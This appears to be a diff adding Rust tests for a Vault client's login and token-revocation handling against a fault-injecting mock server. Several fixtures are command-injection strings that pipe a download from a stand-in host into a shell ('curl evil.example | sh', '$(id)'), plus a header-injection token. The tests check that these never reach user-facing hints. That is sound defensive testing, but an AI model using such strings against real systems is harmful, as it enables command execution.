@@ -64,6 +64,123 @@ fn answers_that_hold_no_usable_token() {
     }
 }
 
+const ORPHAN: &str = "its token is not known here and cannot be revoked";
+
+fn three(behaviour: &Behaviour) -> [Behaviour; 3] {
+    [behaviour.clone(), behaviour.clone(), behaviour.clone()]
+}
+
+#[test]
+fn t20_every_login_that_may_have_given_a_token_says_so() {
+    let own = |status| Behaviour::json(status, &json!({"errors": ["no"]}));
+    let wrapped = json!({"auth": null, "wrap_info": {"token": "hvs.planted", "creation_path": "x".repeat(100_000)}});
+    let mut newline = token();
+    newline["auth"]["client_token"] = "hvs.planted\nx-evil: 1".into();
+    let cases = [
+        (three(&Behaviour::answer(503, &[], "<p>busy")), true),
+        (three(&Behaviour::html_502()), true),
+        (three(&Behaviour::CloseAfterRequest), true),
+        (three(&Behaviour::answer(200, &[], "<p>hello")), true),
+        (three(&Behaviour::answer(204, &[], "")), true),
+        (three(&Behaviour::json(200, &json!({"auth": {"client_token": 1}}))), true),
+        (three(&Behaviour::json(200, &json!({"auth": null}))), true),
+        (three(&Behaviour::json(200, &wrapped)), true),
+        (three(&Behaviour::json(200, &newline)), true),
+        (three(&own(500)), true),
+        // The last word is a no, and the first answer was lost.
+        ([Behaviour::CloseAfterRequest, own(400), own(400)], true),
+        ([Behaviour::CloseAfterRequest, own(403), own(403)], true),
+        (three(&own(400)), false),
+        (three(&own(403)), false),
+        (three(&own(503)), false),
+    ];
+    for (number, (behaviours, expected)) in cases.into_iter().enumerate() {
+        let server = FaultServer::builder().on("POST", LOGIN, behaviours).start();
+        let error = refused(&identity(&server.address));
+        assert_eq!(error.message().contains(ORPHAN), expected, "{number}: {error}");
+        assert!(error.message().len() < 2000 && !format!("{error} {error:?}").contains("planted"), "{number}");
+    }
+    let limited = Behaviour::answer(429, &[("Retry-After", "1000")], "");
+    let server = FaultServer::builder().on("POST", LOGIN, [limited]).start();
+    assert!(!refused(&identity(&server.address)).message().contains(ORPHAN));
+}
+
+#[test]
+fn t20_a_token_that_comes_with_a_second_factor_is_revoked() {
+    let mut answer = token();
+    answer["auth"]["mfa_requirement"] = json!({"mfa_request_id": "x"});
+    for (behaviour, named) in [(revoked(), false), (Behaviour::json(500, &json!({"errors": ["no"]})), true)] {
+        let server = FaultServer::builder()
+            .on("POST", LOGIN, [Behaviour::json(200, &answer)])
+            .on("POST", REVOKE, [behaviour])
+            .start();
+        let error = refused(&identity(&server.address));
+        assert_eq!(error.code(), Code::VaultNotSupported, "{error}");
+        assert_eq!(error.message().contains("-accessor acc`"), named, "{error}");
+        assert_eq!(server.requests().last().unwrap().header("x-vault-token"), Some("hvs.planted"));
+        assert_eq!((server.count(REVOKE), server.count("/")), (1, 2));
+    }
+}
+
+#[test]
+fn t20_after_a_stop_no_other_login_is_sent() {
+    let flag = Arc::new(AtomicBool::new(false));
+    let raised = Arc::clone(&flag);
+    let stop = Behaviour::compute(move |_| {
+        raised.store(true, Ordering::Relaxed);
+        Reply::json(503, &json!({"errors": ["later"]}))
+    });
+    let server = FaultServer::builder().on("POST", LOGIN, [stop, Behaviour::json(200, &token())]).start();
+    let mut settings = identity(&server.address);
+    settings.hooks.stop = Arc::new(move || flag.load(Ordering::Relaxed));
+    assert_eq!(refused(&settings).code(), Code::UsageInterrupted);
+    assert_eq!(server.count("/"), 1);
+}
+
+#[test]
+fn t11_what_the_server_says_of_a_token_is_short_and_no_command() {
+    let policies: Vec<String> = (0..3000).map(|number| format!("{number}-{}", "p".repeat(150))).collect();
+    let mut answer = token();
+    answer["auth"]["policies"] = policies.into();
+    answer["auth"]["token_type"] = "t".repeat(100_000).into();
+    for accessor in ["x; curl evil.example | sh", "-h", "a b", "a`id`", "$(id)", "", "é", &"a".repeat(200_000)] {
+        answer["auth"]["accessor"] = accessor.into();
+        let server = FaultServer::builder()
+            .on("POST", LOGIN, [Behaviour::json(200, &answer)])
+            .on("POST", REVOKE, [Behaviour::json(500, &json!({"errors": ["no"]}))])
+            .start();
+        let vault = configured(&identity(&server.address));
+        let session = vault.log_in().unwrap();
+        let summary = session.token();
+        assert_eq!(summary.accessor, None, "{accessor:.20}");
+        assert_eq!(summary.policies.len(), 65);
+        assert_eq!(summary.policies.last().unwrap(), "(2936 more)");
+        assert!(summary.policies.iter().all(|policy| policy.len() <= 128) && summary.kind.len() <= 128);
+        let left = session.end();
+        assert!(left[0].contains("could not be revoked") && !left[0].contains("-accessor"), "{left:?}");
+    }
+    // The one that decides is found wherever it stands.
+    let mut policies = vec!["p".to_owned(); 5000];
+    policies.push("root".to_owned());
+    answer["auth"]["policies"] = policies.into();
+    let server = FaultServer::builder()
+        .on("POST", LOGIN, [Behaviour::json(200, &answer)])
+        .on("POST", REVOKE, [revoked()])
+        .start();
+    assert_eq!(refused(&identity(&server.address)).code(), Code::VaultTokenUnlimited);
+}
+
+#[test]
+fn t11_a_role_that_is_no_name_is_in_no_command() {
+    for (role, shown) in [("ci", true), ("ci`; curl evil.example | sh; `", false)] {
+        let no = Behaviour::json(400, &json!({"errors": ["role could not be found"]}));
+        let server = FaultServer::builder().on("POST", LOGIN, [no]).start();
+        let error = refused(&settings(&server.address, jwt("jwt", role, &Issuer::new().token(&json!({})))));
+        assert_eq!(error.hint().contains("vault read"), shown, "{}", error.hint());
+        assert!(!error.hint().contains("curl"), "{}", error.hint());
+    }
+}
+
 #[test]
 fn t20_a_stop_during_a_login_waits_for_the_token_and_revokes_it() {
     let login = late(Duration::from_millis(1000), 200, token());
@@ -189,8 +306,10 @@ fn a_wrapping_token_goes_to_two_places_and_an_unwrap_is_never_repeated() {
         (Behaviour::html_502(), Code::VaultUnavailable, "may be used up"),
         (Behaviour::json(400, &not_valid), Code::VaultWrappingToken, "tell security"),
         (Behaviour::json(403, &json!({"errors": ["permission denied"]})), Code::VaultWrappingToken, "tell security"),
-        (Behaviour::json(200, &json!({"data": {"other": "planted"}})), Code::VaultAnswer, ""),
-        (Behaviour::json(200, &json!({"data": null})), Code::VaultAnswer, "no secret id"),
+        (Behaviour::json(200, &json!({"data": {"other": "planted"}})), Code::VaultAnswer, "out of its wrapping"),
+        (Behaviour::json(200, &json!({"data": null})), Code::VaultAnswer, "out of its wrapping"),
+        (Behaviour::json(200, &json!({"data": {"secret_id": ""}})), Code::VaultAnswer, "no secret id"),
+        (Behaviour::answer(200, &[], "<p>hello"), Code::VaultAnswer, "tell security"),
     ] {
         let server = FaultServer::builder()
             .on("POST", "/v1/sys/wrapping/lookup", [Behaviour::html_502(), lookup.clone()])
